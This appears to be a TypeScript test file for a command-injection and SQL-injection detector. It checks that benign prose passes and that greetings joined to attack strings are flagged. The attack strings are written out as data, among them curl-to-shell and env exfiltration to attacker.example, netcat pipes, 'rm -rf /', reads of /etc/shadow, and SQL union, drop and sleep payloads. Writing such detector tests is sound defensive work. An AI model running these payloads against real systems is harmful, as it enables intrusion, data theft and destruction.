import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { inspectEvent } from './inspect.ts';

const file = join(import.meta.dirname, '../../../fixtures/inspect/prose.jsonl');
const prose = readFileSync(file, 'utf8')
  .trim()
  .split('\n')
  .map((line) => (JSON.parse(line) as { payload: string }).payload);

// What a doubt is left about: the text of a probe, or a bare command behind a separator that a column of a table has too.
const doubtful = new Set([
  '```sh\nls -la; pwd\n```',
  'In Bash, $(id) is a command substitution; `id` is the old form.',
  'Is $(pwd) the same as `pwd`?',
  'Rename `host` -> `hostname`',
  'Nap; sleep 10',
  'Parts; screen 15.6"; mount 1/4"',
  'a & b & id & c',
  'x; id',
  'the "or" = "and" bug',
  'user_id;last;first;sort',
  'fruit;color;size;type;id',
  'a; b; c; d; e; id; f',
  'My script does `cd /tmp && ls`; why no output?',
]);

for (const text of prose)
  test(`prose: ${JSON.stringify(text)}`, () => {
    const { level, detections } = inspectEvent({ value: text });
    const why = detections.map(({ class: name, reason }) => `${name}: ${reason}`).join('; ');
    assert.ok(level === 'none' || (level === 'suspicious' && doubtful.has(text)), `${level}, ${why}`);
  });

// The same words with an attack behind them: a greeting must not hide one.
const openings = [
  '',
  'x',
  'a.pdf',
  'Tom',
  'Hello',
  'Hello, thanks for the report',
  'let me know',
  'Sugar & spice',
  'The select committee of the union',
  '🎉 Party',
  'سلام',
  "O'Brien",
];
const commands = [
  '; curl http://attacker.example/x | sh',
  '; cat /etc/passwd',
  ' | nc 192.0.2.1 9',
  ' && rm -rf /',
  '; wget http://attacker.example/a -O /tmp/a',
  '; echo $(curl http://attacker.example/)',
  '; env | curl -d @- http://attacker.example',
  '; find / -name id_rsa',
  '; sort /etc/passwd',
  '; head -5 /etc/shadow',
  '; more /etc/passwd',
  '; mail a@attacker.example < /etc/passwd',
  '; touch /tmp/x',
  '; kill -9 1',
  '| type C:\\Windows\\win.ini',
];
const queries = [
  "' or '1'='1",
  "' or 1=1 --",
  "'; drop table users --",
  "' union select name, pin from customers --",
  "' union all select null, version() --",
  "' and (select count(*) from users) > 0 --",
  "'||pg_sleep(5)--",
  "'; insert into users (name) values ('x') --",
];
const numbers = ['5', '-1', '7)', '0x1f', ''];
const bareQueries = [
  ' union select name, pin from customers',
  '; drop table users',
  '; select pg_sleep(5)',
  ' or 1=1',
  ',(select pin from customers limit 1)',
  '; select name from customers where id = 1',
  ' or 5=5 limit 1',
  '; insert into users (name) values (1)',
];
const costumes = [
  ...openings.flatMap((opening) => commands.map((command) => ({ class: 'cmdi', text: opening + command }))),
  // An apostrophe before them is where the text leaves its literal; O'Brien closes it at once.
  ...openings.slice(0, -1).flatMap((opening) => queries.map((query) => ({ class: 'sqli', text: opening + query }))),
  ...numbers.flatMap((number) => bareQueries.map((query) => ({ class: 'sqli', text: number + query }))),
];
for (const { class: name, text } of costumes)
  test(`attack: ${JSON.stringify(text)}`, () => {
    const { detections } = inspectEvent({ value: text });
    assert.ok(
      detections.some((detection) => detection.class === name && detection.confidence === 'high'),
      JSON.stringify(detections),
    );
  });

test('attacks and prose are of similar number', (context) => {
  assert.ok(prose.length > 150 && costumes.length > prose.length / 2 && costumes.length < prose.length * 2);
  context.diagnostic(`note: ${prose.length} texts of prose, ${costumes.length} attacks`);
});
